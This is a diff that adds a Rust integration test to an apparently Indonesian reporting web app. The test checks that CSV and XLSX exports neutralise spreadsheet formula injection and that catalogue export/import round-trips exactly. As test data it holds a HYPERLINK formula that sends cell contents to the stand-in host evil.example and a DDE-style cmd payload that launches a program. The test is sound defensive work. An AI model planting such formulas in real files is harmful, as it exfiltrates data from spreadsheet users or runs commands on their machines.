@@ -316,3 +316,126 @@ async fn an_empty_period_gives_valid_files_and_bad_periods_a_clear_page() {
     assert!(page.contains("A4 mendatar"));
     assert_eq!(page.matches("<td class=\"num\">0%</td>").count(), 74);
 }
+
+/// A narrative or note that a spreadsheet would run as a formula comes out of every
+/// CSV with a leading apostrophe; the XLSX holds it as plain text (no formula cell);
+/// the catalogue's export → import round trip stays exact.
+#[tokio::test]
+async fn cells_a_spreadsheet_would_run_are_neutralised() {
+    let app = spawn_app().await;
+    let staf = app.signed_in("staf").await;
+    let penilai = app.signed_in("penilai").await;
+    let admin = app.signed_in("admin").await;
+    let step = app.step_id("I", 1, 1, 1).await;
+    app.assign(step, staf.user_id).await;
+    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")";
+    let res = staf
+        .save_progress(step, "2021-2", "berjalan", "10", formula)
+        .await;
+    assert_eq!(res.status(), 303);
+    assert_eq!(
+        penilai
+            .review(step, "2021-2", "perbaikan", "@SUM(1+1)*cmd|' /C calc'!A0")
+            .await
+            .status(),
+        303
+    );
+
+    let csv = penilai
+        .get("/laporan/target.csv?periode=2021-2")
+        .await
+        .text()
+        .await
+        .unwrap();
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let row = reader
+        .records()
+        .map(|r| r.unwrap())
+        .find(|r| r.get(7) == Some("Penetapan SK dan Menyusun SOP pemilihan tim kerja ZI"))
+        .expect("the step's row");
+    let cells: Vec<&str> = row.iter().collect();
+    assert!(cells.contains(&format!("'{formula}").as_str()), "{cells:?}");
+    assert!(cells.iter().any(|c| c.starts_with("'@SUM")), "{cells:?}");
+    for c in &cells {
+        assert!(
+            !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a live formula cell: {c:?}"
+        );
+    }
+
+    // XLSX: the same text, as a string cell, not a formula
+    let bytes = penilai
+        .get("/laporan/target.xlsx?periode=2021-2")
+        .await
+        .bytes()
+        .await
+        .unwrap()
+        .to_vec();
+    let mut wb: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
+    let t = wb.worksheet_range("Target dan Progres").unwrap();
+    let r = find_row(
+        &t,
+        3,
+        "Penetapan SK dan Menyusun SOP pemilihan tim kerja ZI",
+    );
+    assert_eq!(
+        t.get_value((r, 8)),
+        Some(&Data::String(formula.to_string()))
+    );
+    let formulas = wb.worksheet_formula("Target dan Progres").unwrap();
+    assert!(
+        formulas.cells().all(|(_, _, f)| f.is_empty()),
+        "no formula cells in the report"
+    );
+
+    // catalogue: a step text starting with "=" exports guarded and imports back exact
+    let res = admin
+        .post(
+            &format!("/admin/target/langkah/{step}"),
+            &[
+                ("text", "=1+2 susun SOP"),
+                ("authority", "Instansi yang berwenang mengelola ZI"),
+                ("unit", "1"),
+            ],
+        )
+        .await;
+    assert_eq!(res.status(), 303);
+    let exported = admin
+        .get("/katalog/ekspor.csv?tahun=2021")
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(
+        exported.contains(",'=1+2 susun SOP,"),
+        "guarded in the export"
+    );
+    let form = reqwest::multipart::Form::new()
+        .text("csrf_token", admin.csrf.clone())
+        .text("tahun", "2040")
+        .part(
+            "file",
+            reqwest::multipart::Part::bytes(exported.clone().into_bytes()).file_name("t.csv"),
+        );
+    let res = admin
+        .client
+        .post(admin.url("/admin/target-impor"))
+        .multipart(form)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), 303);
+    let again = admin
+        .get("/katalog/ekspor.csv?tahun=2040")
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert_eq!(again, exported, "export → import → export is exact");
+    let stored: i64 =
+        sqlx::query_scalar("SELECT count(*) FROM action_steps WHERE text = '=1+2 susun SOP'")
+            .fetch_one(app.db())
+            .await
+            .unwrap();
+    assert_eq!(stored, 2, "2021 and the imported 2040 hold the text itself");
+}
